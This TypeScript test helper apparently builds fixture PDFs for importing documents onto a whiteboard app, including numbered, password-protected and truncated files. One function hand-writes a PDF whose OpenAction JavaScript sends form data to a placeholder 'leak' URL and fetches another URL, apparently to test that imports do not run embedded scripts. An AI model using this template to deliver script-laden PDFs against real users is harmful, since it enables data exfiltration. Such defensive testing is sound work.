/**
 * PDF files to bring onto a board, made in the test: numbered pages (pdfkit), a password-protected
 * one, a cut-off one, and a hand-written one whose OpenAction is JavaScript.
 */
import { createRequire } from 'node:module'
import PDFDocument from 'pdfkit'
import type { Page } from 'playwright-core'
import { hang } from './hang.ts'

/** Chooses a file with "Dokument einfügen …" in the main menu, as a person does. */
export async function chooseDocument(page: Page, name: string, buffer: Buffer, mimeType = 'application/pdf') {
  const chooser = page.waitForEvent('filechooser')
  await page.getByTestId('main-menu.button').click()
  await page.getByRole('menuitem', { name: 'Dokument einfügen …' }).click()
  await (await chooser).setFiles({ name, mimeType, buffer })
}

/**
 * Waits until the document is on the board as the frame `frameName` and the progress dialog has
 * gone (the dialog alone would not do: it may not have opened yet when this starts).
 */
export async function importFinished(page: Page, frameName: string) {
  await page.waitForFunction(
    (name) => window.__netzwerkstatt!.editor.getCurrentPageShapes().some((s) => s.type === 'frame' && (s.props as { name: string }).name === name),
    frameName,
    { timeout: hang(120_000) },
  )
  await page.getByRole('dialog', { name: 'Dokument wird eingefügt' }).waitFor({ state: 'detached', timeout: hang(120_000) })
}

/** A font to embed, as most PDFs out there carry theirs (the others use Helvetica, which they do not). */
export const embeddedFont = createRequire(import.meta.url).resolve('@fontsource/ibm-plex-sans/files/ibm-plex-sans-latin-400-normal.woff')

/** `pages` A4 pages, each saying "Seite n" in large letters with a line of body text below. */
export function numberedPdf(pages: number, options: { userPassword?: string; title?: string; font?: string } = {}): Promise<Buffer> {
  const doc = new PDFDocument({ size: 'A4', autoFirstPage: false, userPassword: options.userPassword, info: { Title: options.title ?? 'Testdokument' }, font: options.font })
  const chunks: Buffer[] = []
  doc.on('data', (chunk: Buffer) => chunks.push(chunk))
  const done = new Promise<Buffer>((resolve) => doc.on('end', () => resolve(Buffer.concat(chunks))))
  for (let n = 1; n <= pages; n++) {
    doc.addPage()
    doc.fontSize(72).text(`Seite ${n}`, 60, 120)
    doc.fontSize(14).text('§ 3 Zusammenarbeit: Die Partner treffen sich alle sechs Wochen und halten fest, was sie verabreden.', 60, 260, { width: 470 })
    doc.rect(60, 700, 470, 60).stroke()
  }
  doc.end()
  return done
}

/** A file that starts as a PDF and breaks off after its first bytes. */
export async function brokenPdf(): Promise<Buffer> {
  const whole = await numberedPdf(2)
  return whole.subarray(0, 400)
}

/**
 * One page whose document opens with JavaScript (an OpenAction) that would fetch from another
 * origin and mark the page: written by hand, with the cross-reference offsets counted here.
 */
export function pdfWithJavaScript(): Buffer {
  const script = "app.alert('hi'); this.submitForm('https://example.invalid/leak'); this.getURL('https://example.invalid/get');"
  const stream = 'BT /F1 48 Tf 72 700 Td (Mit Skript) Tj ET'
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(start) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> /AA << /O 5 0 R >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    `<< /Type /Action /S /JavaScript /JS (${script}) >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  let body = '%PDF-1.7\n'
  const offsets: number[] = []
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body))
    body += `${i + 1} 0 obj\n${object}\nendobj\n`
  })
  const xref = Buffer.byteLength(body)
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return Buffer.from(body, 'latin1')
}
